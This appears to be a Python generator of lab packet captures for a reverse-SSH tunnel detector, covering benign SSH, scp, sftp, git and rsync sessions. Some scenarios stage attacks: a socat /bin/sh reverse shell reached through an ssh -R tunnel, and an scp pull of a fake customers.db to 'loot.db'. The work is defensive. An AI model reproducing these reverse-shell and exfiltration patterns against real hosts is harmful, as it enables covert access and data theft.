"""Captures of real SSH implementations for the reverse-SSH detector: one command, run as root.

    python -m pcaps.gen.ssh_captures [--only NAME[,NAME...]] [--out pcaps/ssh] [--list]

Each scenario builds its own :class:`pcaps.gen.netlab.Lab` (two namespaces, a wide-area round
trip from the delayed TAP relay), runs Debian's OpenSSH (``/usr/sbin/sshd``, ``ssh``, ``scp``,
``sftp``) or Dropbear (``dropbear``, ``dbclient``) with configuration, host keys and keys of its
own in a temporary directory, types with human timing through pexpect (80-350 ms between keys,
pauses between commands, seeded per scenario), captures with tcpdump on the inside host and
rewrites the addresses to 10.20.30.40 (inside) and 203.0.113.7 (outside), checksums fixed.

The inside host is where the agent runs: it initiates the outer connection to the outside
box. In the reverse scenarios, someone on the outside box then uses the ``-R`` tunnel to get a
shell inside; in the must-not scenarios the inside user works on the outside box.

Nothing of the machine's own SSH set-up is used or changed: every server and client runs in a
namespace and a mount namespace of its own (``ip netns exec`` makes one per process) where a
temporary directory is bound over ``/root`` (keys, ``authorized_keys``, client config, the
files moved around), a tmpfs over ``/run`` (sshd's privilege-separation directory, utmp) and
``/dev/null`` over the login records in ``/var/log``. Scenarios and what each must produce are
in ``pcaps/ssh/README.md``.
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import pexpect

from pcaps.gen.netlab import Lab, rewrite_addresses, stop_process

INSIDE = "10.20.30.40"
OUTSIDE = "203.0.113.7"
PREFIX = "fscg"
PROMPT = r"[$#] $"
MiB = 1 << 20
ENV = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root",
       "TERM": "xterm", "LANG": "C.UTF-8", "USER": "root", "LOGNAME": "root", "PS1": "$ "}

# one process's view: its own /root (the host's home), and for servers /run and login records
_HOST_WRAP = 'mount --bind "$0" /root && exec "$@"'
_SERVER_WRAP = ('mount --bind "$0" /root && mount -t tmpfs -o mode=0755 fsc-run /run && '
                "mkdir -p /run/sshd && for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; "
                'do if [ -e "$f" ]; then mount --bind /dev/null "$f"; fi; done && exec "$@"')

# cipher choices (OpenSSH -o options)
CHACHA = ("chacha20-poly1305@openssh.com", None)
GCM = ("aes128-gcm@openssh.com", None)
CTR_MTE = ("aes128-ctr", "hmac-sha2-256")
CTR_ETM = ("aes128-ctr", "hmac-sha2-256-etm@openssh.com")
Cipher = tuple[str, str | None]


def algo_opts(cipher: Cipher | None) -> list[str]:
    if cipher is None:
        return []
    opts = ["-o", f"Ciphers={cipher[0]}"]
    if cipher[1]:
        opts += ["-o", f"MACs={cipher[1]}"]
    return opts


class Session:
    """The hosts of one scenario: a Lab, a home directory for each side, seeded timing."""

    def __init__(self, lab: Lab, work: Path, seed: str) -> None:
        self.lab = lab
        self.work = work
        self.rng = random.Random(seed)
        self.home = {lab.inside: work / "home-in", lab.outside: work / "home-out"}
        self.outside_ip = lab.outside_ip
        self._children: list[pexpect.spawn] = []
        self._background: list[subprocess.Popen[bytes]] = []
        self._make_homes()

    # -- set-up -------------------------------------------------------------------------------
    def _make_homes(self) -> None:
        keys = self.work / "keys"
        keys.mkdir(mode=0o700)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "fsc-user",
                        "-f", str(keys / "id_ed25519")], check=True, timeout=30)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "fsc-host",
                        "-f", str(keys / "ssh_host_ed25519_key")], check=True, timeout=30)
        subprocess.run(["dropbearkey", "-t", "ed25519", "-f", str(keys / "dropbear_host_key")],
                       check=True, capture_output=True, timeout=30)
        subprocess.run(["dropbearconvert", "openssh", "dropbear", str(keys / "id_ed25519"),
                        str(keys / "id_dropbear")], check=True, capture_output=True, timeout=30)
        for home in self.home.values():
            ssh = home / ".ssh"
            ssh.mkdir(parents=True, mode=0o700)
            home.chmod(0o700)
            for name in ("id_ed25519", "id_ed25519.pub", "id_dropbear"):
                shutil.copy(keys / name, ssh / name)
            shutil.copy(keys / "id_ed25519.pub", ssh / "authorized_keys")
            (ssh / "config").write_text(
                "Host *\n  User root\n  IdentityFile ~/.ssh/id_ed25519\n  IdentitiesOnly yes\n"
                "  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  LogLevel ERROR\n"
                "  ConnectTimeout 15\n")
            (home / ".profile").write_text("PS1='$ '\nexport PS1\n")
            (home / ".bashrc").write_text("PS1='$ '\n")
            (home / ".hushlogin").write_text("")
            (home / "notes.txt").write_text("db: 10.20.30.50 user app\nbackup nightly 02:00\n")
            for p in ssh.iterdir():
                p.chmod(0o600)

    def write_random(self, ns: str, name: str, size: int) -> None:
        (self.home[ns] / name).write_bytes(self.rng.randbytes(size))

    # -- processes ----------------------------------------------------------------------------
    def _wrapped(self, ns: str, cmd: Sequence[str], server: bool = False) -> list[str]:
        return ["sh", "-c", _SERVER_WRAP if server else _HOST_WRAP, str(self.home[ns]), *cmd]

    def start(self, ns: str, cmd: Sequence[str], server: bool = False,
              log: str | None = None) -> subprocess.Popen[bytes]:
        """A background process (a server, a client without a terminal), its output to ``log``."""
        with open(self.work / (log or "background.log"), "ab") as out:
            proc = self.lab.popen(ns, self._wrapped(ns, cmd, server), stdin=subprocess.DEVNULL,
                                  stdout=out, stderr=out, env=ENV)
        self._background.append(proc)
        return proc

    def run(self, ns: str, cmd: Sequence[str], timeout: float = 120.0,
            env: dict[str, str] | None = None) -> str:
        res = self.lab.run(ns, self._wrapped(ns, cmd), timeout=timeout,
                           env={**ENV, **(env or {})})
        if res.returncode != 0:
            raise RuntimeError(f"{' '.join(cmd)} failed ({res.returncode}): "
                               f"{res.stderr.strip()[-400:]}")
        return res.stdout

    def spawn(self, ns: str, cmd: Sequence[str]) -> pexpect.spawn:
        argv = self.lab.argv(ns, self._wrapped(ns, cmd))
        child = pexpect.spawn(argv[0], argv[1:], env=ENV, timeout=30, dimensions=(24, 80),
                              encoding="utf-8", codec_errors="replace")
        self._children.append(child)
        return child

    def close(self) -> None:
        """End the clients, then the servers (latest first): the capture sees their FINs."""
        for child in self._children:
            if child.isalive():
                child.close(force=True)
        self._children.clear()
        for proc in reversed(self._background):
            stop_process(proc)
        self._background.clear()

    def listening(self, ns: str, port: int, timeout: float = 15.0) -> None:
        """Wait until something listens on TCP ``port`` in ``ns`` (``ss``: no probe packet)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            out = self.lab.run(ns, ["ss", "-Hltn", f"sport = :{port}"], timeout=10).stdout
            if out.strip():
                return
            time.sleep(0.1)
        raise TimeoutError(f"nothing listens on {ns}:{port}")

    # -- servers ------------------------------------------------------------------------------
    def sshd(self, ns: str, port: int = 22) -> None:
        keys = self.work / "keys"
        conf = self.work / f"sshd-{ns}-{port}.conf"
        conf.write_text(
            f"Port {port}\nListenAddress 0.0.0.0\nHostKey {keys / 'ssh_host_ed25519_key'}\n"
            "PidFile none\nPermitRootLogin prohibit-password\nPubkeyAuthentication yes\n"
            "PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\n"
            "StrictModes no\nPrintMotd no\nPrintLastLog no\nAllowTcpForwarding yes\n"
            "X11Forwarding no\nSubsystem sftp internal-sftp\nLogLevel INFO\n")
        self.start(ns, ["/usr/sbin/sshd", "-D", "-e", "-f", str(conf)], server=True,
                   log=f"sshd-{ns}-{port}.log")
        self.listening(ns, port)

    def dropbear(self, ns: str, port: int = 22) -> None:
        self.start(ns, ["dropbear", "-F", "-E", "-s", "-m", "-p", str(port),
                        "-r", str(self.work / "keys" / "dropbear_host_key"),
                        "-P", str(self.work / f"dropbear-{ns}.pid")],
                   server=True, log=f"dropbear-{ns}-{port}.log")
        self.listening(ns, port)

    # -- clients ------------------------------------------------------------------------------
    def ssh_bg(self, ns: str, args: Sequence[str]) -> subprocess.Popen[bytes]:
        return self.start(ns, ["ssh", *args], log="ssh-bg.log")

    def login(self, child: pexpect.spawn) -> None:
        child.expect(PROMPT, timeout=30)

    def pause(self, low: float = 0.6, high: float = 1.8) -> None:
        time.sleep(self.rng.uniform(low, high))

    def type_line(self, child: pexpect.spawn, line: str, expect: str | None = PROMPT) -> int:
        """Type ``line`` key by key (80-350 ms apart) and Enter; wait for ``expect``."""
        for ch in line:
            child.send(ch)
            time.sleep(self.rng.uniform(0.08, 0.35))
        child.send("\r")
        if expect is not None:
            child.expect(expect, timeout=30)
        return len(line) + 1

    def type_commands(self, child: pexpect.spawn, commands: Sequence[str]) -> int:
        """A human at a shell: a pause, a command, its output; ``exit`` ends the session."""
        keys = 0
        for cmd in commands:
            self.pause()
            if cmd == "exit":
                keys += self.type_line(child, cmd, expect=None)
                child.expect(pexpect.EOF, timeout=30)
            else:
                keys += self.type_line(child, cmd)
        return keys


# -- scenarios --------------------------------------------------------------------------------
COMMANDS = ["id", "pwd", "ls -la", "cat notes.txt", "uname -sr", "exit"]


def outer_session(s: Session, flag: str, spec: str, outer: Cipher | None = None,
                  port: int = 22, extra: Sequence[str] = ()) -> None:
    """The outside's sshd and the inside's ``ssh -N -R|-L spec`` to it; waits for the forward's
    listener (on the outside for ``-R``, the inside for ``-L``), then a human pause."""
    lab = s.lab
    s.sshd(lab.outside, port)
    s.ssh_bg(lab.inside, ["-N", "-p", str(port), *algo_opts(outer), *extra, flag, spec,
                          f"root@{s.outside_ip}"])
    s.listening(lab.outside if flag == "-R" else lab.inside, int(spec.split(":")[0]))
    s.pause(1.0, 2.0)


@dataclass(frozen=True)
class Scenario:
    name: str
    rtt_ms: float
    run: Callable[[Session], None]
    doc: str


def _reverse_sshd(outer: Cipher | None, inner: Cipher | None, port: int = 22,
                  commands: Sequence[str] = COMMANDS) -> Callable[[Session], None]:
    def run(s: Session) -> None:
        s.sshd(s.lab.inside, 22)
        outer_session(s, "-R", "2222:127.0.0.1:22", outer, port)
        child = s.spawn(s.lab.outside, ["ssh", "-p", "2222", *algo_opts(inner), "root@127.0.0.1"])
        s.login(child)
        s.type_commands(child, commands)
        s.pause(1.0, 1.5)
    return run


def reverse_raw(s: Session) -> None:
    lab = s.lab
    s.start(lab.inside, ["socat", "TCP-LISTEN:5555,reuseaddr,bind=127.0.0.1",
                         "EXEC:/bin/sh,pty,stderr,setsid,ctty"], log="socat.log")
    s.listening(lab.inside, 5555)
    outer_session(s, "-R", "4444:127.0.0.1:5555", CHACHA)
    child = s.spawn(lab.outside, ["socat", "-,raw,echo=0", "TCP:127.0.0.1:4444"])
    child.expect(PROMPT, timeout=30)
    s.type_commands(child, ["id", "cd /root", "ls", "cat notes.txt", "uname -sr", "exit"])
    s.pause(1.0, 1.5)


def reverse_setup(s: Session) -> None:
    lab = s.lab
    s.sshd(lab.inside, 22)
    outer_session(s, "-R", "2222:127.0.0.1:22", CHACHA)
    child = s.spawn(lab.outside, ["ssh", "-p", "2222", "root@127.0.0.1"])
    s.login(child)
    s.pause(1.0, 2.0)
    child.sendeof()  # one key (Ctrl-D) and the session is over
    child.expect(pexpect.EOF, timeout=30)
    s.pause(1.0, 1.5)


def remote_forward(s: Session) -> None:
    outer_session(s, "-R", "2222:127.0.0.1:22")
    time.sleep(4.0)


def reverse_exfil(s: Session) -> None:
    lab = s.lab
    s.write_random(lab.inside, "customers.db", MiB + MiB // 2)
    s.sshd(lab.inside, 22)
    outer_session(s, "-R", "2222:127.0.0.1:22", CHACHA)
    child = s.spawn(lab.outside, ["ssh", "-p", "2222", "root@127.0.0.1"])
    s.login(child)
    s.type_commands(child, ["ls -la", "du -h customers.db", "exit"])
    s.pause()
    s.run(lab.outside, ["scp", "-q", "-P", "2222", "root@127.0.0.1:/root/customers.db",
                        "/root/loot.db"])
    s.pause(1.0, 1.5)


def idle_tunnel(s: Session) -> None:
    outer_session(s, "-R", "2222:127.0.0.1:22", extra=["-o", "ServerAliveInterval=5"])
    time.sleep(64.0)


def dropbear_reverse(s: Session) -> None:
    lab = s.lab
    s.dropbear(lab.inside, 22)
    s.dropbear(lab.outside, 22)
    s.start(lab.inside, ["dbclient", "-y", "-y", "-N", "-i", "/root/.ssh/id_dropbear",
                         "-c", "chacha20-poly1305@openssh.com",
                         "-R", "2222:127.0.0.1:22", f"root@{s.outside_ip}"], log="dbclient.log")
    s.listening(lab.outside, 2222)
    s.pause(1.0, 2.0)
    child = s.spawn(lab.outside, ["dbclient", "-y", "-y", "-i", "/root/.ssh/id_dropbear",
                                  "-c", "aes128-ctr", "-m", "hmac-sha2-256",
                                  "-p", "2222", "root@127.0.0.1"])
    s.login(child)
    s.type_commands(child, COMMANDS)
    s.pause(1.0, 1.5)


def dropbear_forward(s: Session) -> None:
    lab = s.lab
    s.dropbear(lab.outside, 22)
    s.pause(0.5, 1.0)
    child = s.spawn(lab.inside, ["dbclient", "-y", "-y", "-i", "/root/.ssh/id_dropbear",
                                 "-c", "aes128-ctr", "-m", "hmac-sha2-256",
                                 f"root@{s.outside_ip}"])
    s.login(child)
    s.type_commands(child, COMMANDS)
    s.pause(1.0, 1.5)


def _forward_interactive(cipher: Cipher | None, port: int) -> Callable[[Session], None]:
    def run(s: Session) -> None:
        s.sshd(s.lab.outside, port)
        s.pause(0.5, 1.0)
        child = s.spawn(s.lab.inside, ["ssh", "-p", str(port), *algo_opts(cipher),
                                       f"root@{s.outside_ip}"])
        s.login(child)
        s.type_commands(child, COMMANDS)
        s.pause(1.0, 1.5)
    return run


def scp_upload(s: Session) -> None:
    s.write_random(s.lab.inside, "report.bin", MiB)
    s.sshd(s.lab.outside, 22)
    s.run(s.lab.inside, ["scp", "-q", "/root/report.bin", f"root@{s.outside_ip}:/root/"])
    s.pause(1.0, 1.5)


def scp_download(s: Session) -> None:
    s.write_random(s.lab.outside, "backup.tar", MiB)
    s.sshd(s.lab.outside, 22)
    s.run(s.lab.inside, ["scp", "-q", f"root@{s.outside_ip}:/root/backup.tar", "/root/"])
    s.pause(1.0, 1.5)


def sftp(s: Session) -> None:
    s.write_random(s.lab.inside, "upload.bin", MiB // 2)
    s.write_random(s.lab.outside, "download.bin", MiB // 2)
    (s.home[s.lab.inside] / "batch").write_text(
        "lcd /root\nls -l\nput upload.bin\nget download.bin\nls -l\nbye\n")
    s.sshd(s.lab.outside, 22)
    s.run(s.lab.inside, ["sftp", "-q", "-b", "/root/batch", f"root@{s.outside_ip}"])
    s.pause(1.0, 1.5)


def git_over_ssh(s: Session) -> None:
    lab = s.lab
    seed = s.work / "seed-repo"
    bare = s.home[lab.outside] / "repo.git"
    git = ["git", "-c", "user.name=Dev", "-c", "user.email=dev@example.org",
           "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(seed)], check=True, timeout=30)
    for i in range(8):
        text = "".join(f"line {i}.{j}: {s.rng.getrandbits(64):016x}\n" for j in range(400))
        (seed / f"module{i}.txt").write_text(text)
    subprocess.run([*git, "-C", str(seed), "add", "."], check=True, timeout=30)
    subprocess.run([*git, "-C", str(seed), "commit", "-qm", "initial"], check=True, timeout=30)
    subprocess.run([*git, "clone", "-q", "--bare", str(seed), str(bare)], check=True, timeout=30)
    s.sshd(lab.outside, 22)
    env = {"GIT_SSH_COMMAND": "ssh"}
    s.run(lab.inside, [*git, "clone", "-q", f"root@{s.outside_ip}:repo.git", "/root/work"],
          env=env)
    s.pause()
    work = s.home[lab.inside] / "work"
    (work / "module0.txt").write_text((work / "module0.txt").read_text() + "fix\n" * 40)
    subprocess.run([*git, "-C", str(work), "commit", "-qam", "fix"], check=True, timeout=30)
    s.run(lab.inside, [*git, "-C", "/root/work", "push", "-q", "origin", "main"], env=env)
    s.pause(1.0, 1.5)


def rsync_over_ssh(s: Session) -> None:
    lab = s.lab
    photos = s.home[lab.inside] / "photos"
    photos.mkdir()
    for i in range(4):
        (photos / f"img{i}.jpg").write_bytes(s.rng.randbytes(MiB // 4))
    s.sshd(lab.outside, 22)
    s.run(lab.inside, ["rsync", "-a", "-e", "ssh", "/root/photos/",
                       f"root@{s.outside_ip}:/root/backup/"])
    s.pause(1.0, 1.5)


def local_forward_web(s: Session) -> None:
    lab = s.lab
    www = s.home[lab.outside] / "www"
    www.mkdir()
    (www / "index.html").write_text("<html><body><h1>intranet</h1></body></html>\n" * 20)
    (www / "report.pdf").write_bytes(s.rng.randbytes(200_000))
    s.start(lab.outside, ["python3", "-m", "http.server", "8000", "--bind", "127.0.0.1",
                          "--directory", "/root/www"], log="http.log")
    s.listening(lab.outside, 8000)
    outer_session(s, "-L", "8080:127.0.0.1:8000")
    for path in ("/", "/index.html", "/report.pdf", "/"):
        s.pause()
        s.run(lab.inside, ["curl", "-sS", "-o", "/dev/null", f"http://127.0.0.1:8080{path}"])
    s.pause(1.0, 1.5)


def proxyjump(s: Session) -> None:
    s.sshd(s.lab.outside, 22)
    s.pause(0.5, 1.0)
    # the jump host's own loopback is the target: a third host without a third namespace
    child = s.spawn(s.lab.inside, ["ssh", "-J", f"root@{s.outside_ip}", *algo_opts(GCM),
                                   "root@127.0.0.1"])
    s.login(child)
    s.type_commands(child, COMMANDS)
    s.pause(1.0, 1.5)


def local_forward_nested(s: Session) -> None:
    outer_session(s, "-L", "2222:127.0.0.1:22", CHACHA)
    child = s.spawn(s.lab.inside, ["ssh", "-p", "2222", *algo_opts(CTR_ETM), "root@127.0.0.1"])
    s.login(child)
    s.type_commands(child, COMMANDS)
    s.pause(1.0, 1.5)


SCENARIOS = [
    Scenario("reverse-interactive-sshd-chacha", 60, _reverse_sshd(CHACHA, CHACHA),
             "ssh -R into the inside's sshd, chacha20-poly1305 outer and inner, port 22"),
    Scenario("reverse-interactive-sshd-gcm-443", 80, _reverse_sshd(GCM, CTR_MTE, port=443),
             "ssh -R on port 443, aes128-gcm outer, aes128-ctr+hmac-sha2-256 inner"),
    Scenario("reverse-interactive-sshd-etm", 40, _reverse_sshd(CTR_ETM, GCM),
             "ssh -R, aes128-ctr+hmac-sha2-256-etm outer, aes128-gcm inner, port 22"),
    Scenario("reverse-interactive-sshd-mte", 70, _reverse_sshd(CTR_MTE, CTR_ETM),
             "ssh -R, aes128-ctr+hmac-sha2-256 outer, aes128-ctr+hmac-sha2-256-etm inner"),
    Scenario("reverse-interactive-raw", 60, reverse_raw,
             "ssh -R to a raw socat shell, chacha20-poly1305, port 22"),
    Scenario("reverse-setup", 60, reverse_setup,
             "inner handshake and login through ssh -R, then Ctrl-D"),
    Scenario("remote-forward", 50, remote_forward, "ssh -N -R, nothing through it"),
    Scenario("reverse-exfil", 60, reverse_exfil,
             "inner session through ssh -R, then scp pulls 1.5 MiB from the inside"),
    Scenario("idle-tunnel", 60, idle_tunnel, "ssh -N -R with ServerAliveInterval=5, 65 s"),
    Scenario("dropbear-reverse-interactive", 60, dropbear_reverse,
             "dbclient -R to dropbear; inner dbclient into the inside's dropbear"),
    Scenario("dropbear-forward-interactive", 60, dropbear_forward,
             "dbclient to dropbear, typed from the inside"),
    Scenario("forward-interactive-22", 60, _forward_interactive(CHACHA, 22),
             "ssh from the inside, typed from the inside, port 22"),
    Scenario("forward-interactive-443", 80, _forward_interactive(GCM, 443),
             "ssh from the inside, typed from the inside, port 443"),
    Scenario("scp-upload", 60, scp_upload, "scp 1 MiB from the inside to the outside"),
    Scenario("scp-download", 60, scp_download, "scp 1 MiB from the outside to the inside"),
    Scenario("sftp", 60, sftp, "sftp batch: put 512 KiB, get 512 KiB"),
    Scenario("git-over-ssh", 60, git_over_ssh, "git clone and push over ssh"),
    Scenario("rsync-over-ssh", 60, rsync_over_ssh, "rsync -e ssh of 1 MiB to the outside"),
    Scenario("local-forward-web", 60, local_forward_web, "ssh -L carrying HTTP (curl)"),
    Scenario("proxyjump", 60, proxyjump, "ssh -J: nested session typed from the inside"),
    Scenario("local-forward-nested", 60, local_forward_nested,
             "ssh -L carrying an inner ssh session typed from the inside"),
]


def generate(scenario: Scenario, out_dir: Path) -> Path:
    work = Path(tempfile.mkdtemp(prefix="fsc-ssh-"))
    work.chmod(0o700)
    target = out_dir / f"{scenario.name}.pcap"
    raw = work / "raw.pcap"
    try:
        with Lab(PREFIX, rtt_ms=scenario.rtt_ms) as lab:
            session = Session(lab, work, seed=scenario.name)
            try:
                with lab.tcpdump(lab.inside, raw):
                    scenario.run(session)
                    session.close()
            except BaseException:
                for log in sorted(work.glob("*.log")):
                    tail = log.read_text(errors="replace").strip().splitlines()[-5:]
                    if tail:
                        print(f"  {log.name}: " + " | ".join(tail), file=sys.stderr)
                raise
            finally:
                session.close()
            mapping = {lab.inside_ip: INSIDE, lab.outside_ip: OUTSIDE}
        out_dir.mkdir(parents=True, exist_ok=True)
        rewrite_addresses(raw, target, mapping)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return target


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m pcaps.gen.ssh_captures", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--only", action="append", default=[],
                    help="scenario name(s), comma-separated or repeated (default: all)")
    ap.add_argument("--out", type=Path, default=Path("pcaps/ssh"))
    ap.add_argument("--list", action="store_true", help="list the scenarios and exit")
    args = ap.parse_args(argv)
    if args.list:
        for sc in SCENARIOS:
            print(f"{sc.name:34} {sc.rtt_ms:4.0f} ms  {sc.doc}")
        return 0
    wanted = {n for item in args.only for n in item.split(",") if n}
    unknown = wanted - {sc.name for sc in SCENARIOS}
    if unknown:
        print(f"unknown scenario(s): {', '.join(sorted(unknown))}", file=sys.stderr)
        return 2
    if os.geteuid() != 0:
        print("needs root (network namespaces, TAP devices, mounts)", file=sys.stderr)
        return 2
    failed = 0
    for sc in SCENARIOS:
        if wanted and sc.name not in wanted:
            continue
        t0 = time.monotonic()
        try:
            path = generate(sc, args.out)
        except (Exception, pexpect.ExceptionPexpect) as exc:  # noqa: BLE001 - report, go on
            failed += 1
            print(f"FAIL {sc.name}: {type(exc).__name__}: {exc}", file=sys.stderr)
            continue
        print(f"ok   {sc.name:34} {path.stat().st_size:>9} B  {time.monotonic() - t0:5.1f} s")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
